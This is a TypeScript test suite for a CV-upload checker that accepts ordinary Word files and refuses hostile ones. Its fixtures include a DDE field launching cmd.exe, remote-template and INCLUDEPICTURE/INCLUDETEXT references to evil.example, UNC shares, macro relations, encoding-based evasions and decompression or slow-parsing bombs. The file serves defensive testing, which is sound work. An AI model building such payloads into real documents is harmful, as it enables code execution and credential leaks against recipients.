import { createHash } from "node:crypto";
import fc from "fast-check";
import { expect, test } from "vitest";
import { docx, outside, processorMs, settingsWith, zip } from "@/tests/support/attack-files";
import { field, nested, ordinaryDocx, relationsAt, simpleField, story, utf16 } from "@/tests/support/attack-files-docx";
import { checkCv } from "./check";

const EVIL = "https://evil.example/t.dotm";
const OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const template = (target: string) => docx(settingsWith(outside(target)));
/** Reading grows with the size alone: what looks back for each sign takes hundreds of times as long. */
const AT_MOST = 8;
/** Packs badly, so that what packs well beside it is no bomb by its ratio. */
const NOISE = {
  name: "word/media/a.png",
  content: createHash("shake256", { outputLength: 300_000 }).update("noise").digest(),
};

test.each([
  ["page numbers, links, pasted pictures and words about DDE", ordinaryDocx()],
  ["a template on its writer's disk, in Windows", template("file:///C:\\Users\\sam\\Templates\\CV%20modern.dotx")],
  ["a template on its writer's disk, on a Mac", template("file:///Users/sam/Library/CV.dotx")],
  [
    "links to the web, to a mailbox and to a file",
    docx(
      settingsWith(
        ["https://a.example", "mailto:a@a.example", "file:///C:\\x"].map((to) => outside(to, "hyperlink")).join(""),
      ),
    ),
  ],
  [
    "links as the strict standard has them",
    docx(
      settingsWith(
        outside(EVIL, "hyperlink").replace(
          "http://schemas.openxmlformats.org/officeDocument/2006",
          "http://purl.oclc.org/ooxml/officeDocument",
        ),
      ),
    ),
  ],
  [
    "names in other letters",
    zip([
      { name: "[content_types].xml", content: "<Types/>" },
      { name: "word/Document.xml", content: "<w:document/>" },
    ]),
  ],
  ["relations in UTF-16", docx(utf16(settingsWith(outside(EVIL, "hyperlink")), { mark: true }))],
])("a Word document with %s is taken", async (_, bytes) => {
  expect(await checkCv(bytes)).toEqual({ ok: true, kind: "docx" });
});

test.each([
  ["relations in capitals", docx(relationsAt("word/_rels/settings.xml.RELS", outside(EVIL))), "remote"],
  ["relations under an encoded name", docx(relationsAt("word/_rels/settings.xml.%72els", outside(EVIL))), "remote"],
  ["relations in pieces", docx(relationsAt("word/_rels/settings.xml.rels/[0].last.piece", outside(EVIL))), "damaged"],
  ["a template behind a blank", template(` ${EVIL}`), "remote"],
  ["a template in an archive of pages", template("mhtml:https://evil.example/x!y"), "remote"],
  ["a template on a share", template("\\\\evil.example\\t.dotm"), "remote"],
  ["a template on a share, by address", template("file:////evil.example/t.dotm"), "remote"],
  ["a template on a share, by address with backslashes", template("file:///\\\\evil.example\\t.dotm"), "remote"],
  ["a template on a share behind a disk", template("file:///C:\\..\\..\\\\evil.example\\t.dotm"), "remote"],
  ["a template behind many character references", template("&#x00000068;ttps://evil.example"), "remote"],
  [
    "a template that says External in long references",
    docx(settingsWith(outside(EVIL, "attachedTemplate", 'TargetMode="&#0000069;xternal"'))),
    "remote",
  ],
  [
    "a picture on the writer's disk, which nobody else has",
    docx(settingsWith(outside("file:///C:\\me.png", "image"))),
    "remote",
  ],
  ["a template that calls itself a link", docx(settingsWith(outside(EVIL, "attachedTemplate/hyperlink"))), "remote"],
  ["a template whose address ends like a link", template(`${EVIL}/hyperlink`), "remote"],
  ["a template outside that does not say so", docx(settingsWith(outside(EVIL, "attachedTemplate", ""))), "remote"],
  ["relations in UTF-16 without a mark", docx(utf16(settingsWith(outside(EVIL)))), "remote"],
  ["relations in UTF-16 the other way round", docx(utf16(settingsWith(outside(EVIL)), { bigEndian: true })), "remote"],
  [
    "relations in UTF-32",
    docx({ name: "word/_rels/a.rels", content: Buffer.from("<\0\0\0R\0\0\0>\0\0\0") }),
    "damaged",
  ],
  [
    "relations in an encoding of mainframes",
    docx({ name: "word/_rels/a.rels", content: Buffer.from("4c6fa794", "hex") }),
    "damaged",
  ],
  [
    "relations in an encoding that hides brackets",
    docx({ name: "word/_rels/a.rels", content: '<?xml version="1.0" encoding="utf-7"?>+ADw-Relationship' }),
    "damaged",
  ],
  [
    "a macro part by another name",
    docx(
      settingsWith(
        `<Relationship Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="a.bin"/>`,
      ),
    ),
    "macros",
  ],
  [
    "an object by another name",
    docx(settingsWith(`<Relationship Type="${OFFICE}/oleObject" Target="a.dat"/>`)),
    "macros",
  ],
  [
    "a macro type in character references",
    zip([
      { name: "[Content_Types].xml", content: "<Types a='macro&#69;nabled'/>" },
      { name: "word/document.xml", content: "<a/>" },
    ]),
    "macros",
  ],
  ["a DDE field", docx(story(field(' DDE "c:\\\\cmd.exe" "/k calc" '))), "macros"],
  [
    "a DDEAUTO field in the document",
    zip([{ name: "[Content_Types].xml", content: "<Types/>" }, story(field("ddeauto c:\\\\x"), "word/document.xml")]),
    "macros",
  ],
  ["a DDEAUTO field split over runs", docx(story(field(" ", "DD", "E", "AUTO c:\\\\x"))), "macros"],
  ["a DDE field in character references", docx(story(field("&#68;&#x44;E x"))), "macros"],
  ["a DDE field with a comment in its name", docx(story(field("D<!-- > -->DE x"))), "macros"],
  ["a DDE field in character data", docx(story(field("<![CDATA[DDE]]> x"))), "macros"],
  ["a DDE field in one element", docx(story(simpleField("DDEAUTO x"), "word/footer2.xml")), "macros"],
  ["a DDE field behind a bracket in quotes", docx(story('<w:fldSimple w:x=">" w:instr="DDE x"/>')), "macros"],
  ["a DDE field in another field", docx(story(nested("IF 1=1", "DDE x"))), "macros"],
  [
    "a DDE field that never ends",
    docx(story(field("DDE x").replace(/<w:r><w:fldChar w:fldCharType="(separate|end)"\/><\/w:r>/g, ""))),
    "macros",
  ],
  ["a DDE field in a part of another name", docx({ ...story(field("DDE x")), name: "word/story.dat" }), "macros"],
  ["a DDE field in UTF-16", docx(utf16(story(field("DDE x")))), "macros"],
  [
    "a picture from the internet by a field",
    docx(story(field(' INCLUDEPICTURE "https://evil.example/p.png" \\d'))),
    "remote",
  ],
  [
    "a picture from a share by a field",
    docx(story(field(' INCLUDEPICTURE "\\\\\\\\evil.example\\\\p.png"'))),
    "remote",
  ],
  [
    "a picture from a share by a field in one element",
    docx(story(simpleField("INCLUDEPICTURE&quot;\\\\\\\\evil.example\\\\p.png&quot;"))),
    "remote",
  ],
  [
    "a picture whose address is put together",
    docx(story(nested(" INCLUDEPICTURE ", "QUOTE 104 116 116 112", "x"))),
    "remote",
  ],
  ["a picture whose path has no end", docx(story(field(` INCLUDEPICTURE ${"a.b-".repeat(4000)}`))), "remote"],
  ["a text that has no end", docx(NOISE, story("x".repeat(17 * 1024 * 1024))), "bomb"],
  [
    "text from the internet by a field",
    docx(story(simpleField(' INCLUDETEXT "https://evil.example/t.docx" '))),
    "remote",
  ],
] as const)("a Word document with %s is refused", async (_, bytes, reason) => {
  expect(await checkCv(bytes)).toEqual({ ok: false, reason });
});

test("into however many runs its name is split, a DDE field is found", async () => {
  await fc.assert(
    fc.asyncProperty(fc.constantFrom("DDE", "ddeauto"), fc.array(fc.nat(12), { maxLength: 5 }), async (name, cuts) => {
      const words = `  ${name} c:\\x`;
      const ends = [...cuts, words.length].sort((one, other) => one - other);
      const pieces = ends.map((end, index) => words.slice(ends[index - 1] ?? 0, end));

      expect(await checkCv(docx(story(field(...pieces))))).toEqual({ ok: false, reason: "macros" });
    }),
  );
});

test("documents made to be read slowly take no longer than a few ordinary ones of their size", async () => {
  const megabytes = (count: number, unit: string) => unit.repeat(Math.floor((count * 1024 * 1024) / unit.length));
  const endless = [
    "<w:r/>",
    "<!--",
    "<![CDATA[",
    "<?x",
    "<w:instrText",
    '<w:instrText a="',
    field(""),
    "a.b-",
    "&#x",
    "<",
  ];

  const taken = async (content: string) => {
    const bytes = docx(NOISE, story(content));
    return processorMs(async () => expect(await checkCv(bytes)).toEqual({ ok: true, kind: "docx" }));
  };
  const ordinary = await taken(megabytes(15, "<w:p><w:r><w:t>Planned a week of lessons.</w:t></w:r></w:p>"));

  const ratios: [string, number][] = [];
  for (const unit of [...endless, field("INCLUDEPICTURE a.b-"), field("").slice(0, 50)])
    ratios.push([unit, (await taken(`<w:instrText>X ${megabytes(15, unit)}`)) / ordinary]);
  expect(ratios.filter(([, times]) => times > AT_MOST)).toEqual([]);
});
